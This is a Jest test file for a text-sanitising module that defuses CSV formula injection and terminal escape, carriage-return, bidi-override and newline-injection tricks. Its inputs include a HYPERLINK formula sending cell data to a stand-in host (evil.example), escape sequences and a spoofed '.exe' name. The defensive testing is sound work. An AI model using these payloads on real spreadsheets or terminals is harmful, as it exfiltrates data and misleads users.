import { csvCell, terminalText, terminalValue } from './safe-text';

describe('csvCell', () => {
  it.each(['=HYPERLINK("http://evil.example/?x="&C3,"Open")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '＝1+1'])(
    'makes %j open as text: prefixed with a single quote',
    (value) => {
      expect(csvCell(value)).toBe(`'${value}`);
    },
  );

  it('leaves an ordinary name, an Arabic one and a time alone', () => {
    expect(csvCell('Inês Carvalho')).toBe('Inês Carvalho');
    expect(csvCell('ليلى حداد')).toBe('ليلى حداد');
    expect(csvCell('2027-09-18T20:00:00.000Z')).toBe('2027-09-18T20:00:00.000Z');
    expect(csvCell('')).toBe('');
  });

  it('shows escape sequences and bell as visible characters, keeping line breaks', () => {
    expect(csvCell('Ana\x1b]0;pwned\x07')).toBe('Ana␛]0;pwned␇');
    expect(csvCell('first\r\nsecond')).toBe('first\nsecond');
    expect(csvCell('C1\u009b31m')).toBe('C1\uFFFD31m');
  });

  it('prefixes a formula behind a leading carriage return, line break or spaces', () => {
    expect(csvCell('\r=1+1')).toBe("'\n=1+1");
    expect(csvCell('  =1+1')).toBe("'  =1+1");
  });
});

describe('terminalText', () => {
  it('prints a window-title sequence and a clear-screen sequence harmlessly', () => {
    const shown = terminalText('Kenji \x1b]0;pwned\x07 and \x1b[2J');
    expect(shown).toBe('Kenji ␛]0;pwned␇ and ␛[2J');
    expect(shown).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  });

  it('keeps lines and tabs, shows a carriage return that would overwrite the line', () => {
    expect(terminalText('a\tb\nc')).toBe('a\tb\nc');
    expect(terminalText('a\r\nb')).toBe('a\nb');
    expect(terminalText('rm -rf\rsafe')).toBe('rm -rf␍safe');
  });

  it('shows bidi overrides and isolates instead of letting them reorder the line', () => {
    expect(terminalText('x\u202Egpj.exe')).toBe('x\uFFFDgpj.exe');
    expect(terminalText('\u2068Sydney\u2069')).toBe('\uFFFDSydney\uFFFD');
  });

  it('a value set into a line never starts a new one', () => {
    expect(terminalValue('Ana\nDone: 0 problems')).toBe('Ana␊Done: 0 problems');
  });
});
